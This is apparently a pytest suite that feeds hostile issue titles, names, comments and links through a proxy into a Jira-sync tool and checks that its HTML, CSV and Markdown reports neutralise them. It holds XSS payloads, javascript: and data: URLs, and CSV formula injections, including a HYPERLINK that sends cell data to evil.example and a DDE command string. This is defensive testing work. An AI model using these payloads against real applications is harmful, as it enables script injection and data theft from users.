"""Hostile issue text, end to end: everyone who can edit an issue writes what the reports show.

A real proxy in front of the Jira simulator rewrites what the demo workspace says: issue
titles, people's names, comments and remote links carry HTML and JavaScript, ``javascript:``
and ``data:`` URLs, SVG payloads, spreadsheet formulas and Markdown that tries to leave its
table cell or pull in an image. The real connector syncs it into a real store and the real CLI
renders every format; each output is then read the way its consumer reads it (an HTML parser,
a CSV reader, Markdown table rows) and checked for anything that would run or break out.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from hostile import FaultProxy

from connectors.sim.jira import DEMO, JiraSimulator, build_demo_workspace
from tracker.cli import run

TOKEN = "hostile-token-0000"
SCRIPT = "<script>alert('title')</script>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="9"/></svg>'
TITLES = [
    f'=HYPERLINK("http://evil.example/?"&A1,"Click") {SCRIPT}',
    "+cmd|' /C calc'!A0",
    "-2+3 <img src=x onerror=alert(1)>",
    "@SUM(A1:A9) | broken | ![pwned](http://evil.example/x.png)",
    "\tTabbed =1+1",
    "\rCarriage =1+1",
    f"Title with {SVG}",
]
NAMES = ["=Evil Eve", "@Mallory <b>bold</b>", "+Trudy ![i](http://evil.example/i.png)"]
COMMENT = (
    f"{SCRIPT} [click](javascript:alert(1)) | cell | break\n\n| a | b |\n|---|---|\n"
    "![img](http://evil.example/track.png) #impact"
)
URLS = [
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "JaVaScRiPt:alert(2)",
    " javascript:alert(3)",
    "data:image/svg+xml;utf8," + SVG,
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _retitle(answer: Any, path: str) -> Any:
    for index, issue in enumerate(answer.get("issues") or []):
        issue["fields"]["summary"] = TITLES[index % len(TITLES)]
        for comment in (issue["fields"].get("comment") or {}).get("comments") or []:
            comment["body"] = COMMENT
            comment["author"]["displayName"] = NAMES[index % len(NAMES)]
    return answer


def _rename_authors(answer: Any, path: str) -> Any:
    for index, entry in enumerate(answer.get("issueChangeLogs") or []):
        for history in entry.get("changeHistories") or []:
            if isinstance(history.get("author"), dict):
                history["author"]["displayName"] = NAMES[index % len(NAMES)]
    return answer


def _comments(answer: Any, path: str) -> Any:
    for index, comment in enumerate(answer.get("comments") or []):
        comment["body"] = COMMENT
        comment["author"]["displayName"] = NAMES[index % len(NAMES)]
    return answer


def _remote_links(answer: Any, path: str) -> Any:
    for index, link in enumerate(answer):
        link["object"]["url"] = URLS[index % len(URLS)]
        link["object"]["title"] = f"{SVG} {SCRIPT}"
    return answer


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    tmp = tmp_path_factory.mktemp("hostile")
    mp = pytest.MonkeyPatch()
    mp.setenv("HOSTILE_JIRA_TOKEN", TOKEN)
    with (
        JiraSimulator(
            build_demo_workspace(), flavour="cloud", email=DEMO.email, token=TOKEN
        ) as sim,
        FaultProxy(sim.url) as proxy,
    ):
        proxy.on("/search/jql", transform=_retitle)
        proxy.on("/changelog/bulkfetch", transform=_rename_authors)
        proxy.on("/comment", transform=_comments)
        proxy.on("/remotelink", transform=_remote_links)
        config = tmp / "tracker.toml"
        config.write_text(
            f'database = "sqlite:///{tmp / "t.db"}"\n[[source]]\nname = "acme"\ntype = "jira"\n'
            f'url = "{proxy.url}"\nemail = "{DEMO.email}"\ntoken_env = "HOSTILE_JIRA_TOKEN"\n'
            f'boards = [{DEMO.pay_board}]\nac_field = "{DEMO.ac_field}"\n'
        )
        assert run(["--config", str(config), "sync"]) == 0
        assert any("/remotelink" in r for r in proxy.requests)
    rendered = {}
    for fmt, ext in (("html", "html"), ("csv", "csv"), ("markdown", "md"), ("json", "json")):
        path = tmp / f"report.{ext}"
        args = ["--config", str(config), "report", "--sprint", str(DEMO.demo_sprint)]
        assert run([*args, "--format", fmt, "-o", str(path)]) == 0
        rendered[fmt] = path.read_text(encoding="utf-8-sig")
    mp.undo()
    yield rendered


def test_the_hostile_text_reached_the_reports(outputs: dict[str, str]) -> None:
    # Otherwise the checks below would pass on a report that never saw it.
    changes = json.loads(outputs["json"])["changes"]
    assert changes and {c["issue_title"] for c in changes} <= set(TITLES)
    assert any(c["changed_by"] in NAMES for c in changes)
    assert any(e["kind"] == "remote_link" for c in changes for e in c["evidence"])


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.handlers: list[tuple[str, str]] = []
        self.urls: list[str] = []
        self.images: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name in ("href", "src", "xlink:href", "action", "formaction") and value:
                self.urls.append(value)
        if tag in ("img", "image", "iframe", "object", "embed"):
            self.images.append(tag)
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.scripts.append(data)


def test_html_runs_nothing_from_the_tracker(outputs: dict[str, str]) -> None:
    page = _Inspector()
    page.feed(outputs["html"])
    assert page.handlers == []  # no onload=, onerror= from any text
    assert page.images == []
    assert not [s for s in page.scripts if "alert" in s]
    for url in page.urls:
        scheme = url.strip().split(":", 1)[0].lower()
        assert url.startswith("#") or scheme in ("http", "https"), url
    assert '<svg xmlns="http://www.w3.org/2000/svg" onload' not in outputs["html"]
    assert "&lt;script&gt;" in outputs["html"]  # shown as text, not dropped


def test_no_csv_cell_is_a_formula(outputs: dict[str, str]) -> None:
    rows = list(csv.reader(io.StringIO(outputs["csv"], newline="")))
    assert len(rows) > 1 and len({len(r) for r in rows}) == 1  # no row split by a CR
    for row in rows:
        for cell in row:
            assert not cell.lstrip().startswith(FORMULA), repr(cell)
    cells = {cell for row in rows for cell in row}
    assert any(cell.startswith("'=") or cell.startswith("'+") for cell in cells)


def test_markdown_stays_in_its_table_cells_and_pulls_in_no_image(outputs: dict[str, str]) -> None:
    md = outputs["markdown"]
    assert "![" not in md.replace("\\!\\[", "").replace("!\\[", "")
    assert "javascript:" not in md.lower() and "data:text" not in md
    tables: list[list[str]] = [[]]
    for line in md.splitlines():
        if line.startswith("|"):
            tables[-1].append(line)
        elif tables[-1]:
            tables.append([])
    tables = [t for t in tables if t]
    assert tables
    for table in tables:  # every row has as many cells as the header: none broke out
        assert len({line.replace("\\|", "").count("|") for line in table}) == 1, table
